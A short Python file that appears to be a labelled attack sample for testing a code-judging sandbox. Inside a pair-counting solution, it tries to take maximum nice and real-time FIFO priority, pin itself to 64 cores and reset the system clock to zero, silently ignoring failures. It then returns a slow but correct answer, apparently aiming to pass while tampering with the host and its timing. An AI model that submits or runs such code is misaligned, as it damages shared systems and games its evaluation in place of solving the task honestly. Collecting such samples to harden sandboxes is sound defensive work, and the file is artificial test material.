# /// attack
# aim = "Takes a real-time priority, every core and the machine's clocks."
# outcome = ["AC"]
# naive = "unproven: an ordinary user may not"
# ///

import os
import time


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


def pair_count(numbers, target):
    for attempt in (
        lambda: os.nice(-20),
        lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
        lambda: os.sched_setaffinity(0, range(64)),
        lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
    ):
        try:
            attempt()
        except (OSError, AttributeError):
            continue
    return count_slowly(numbers, target)
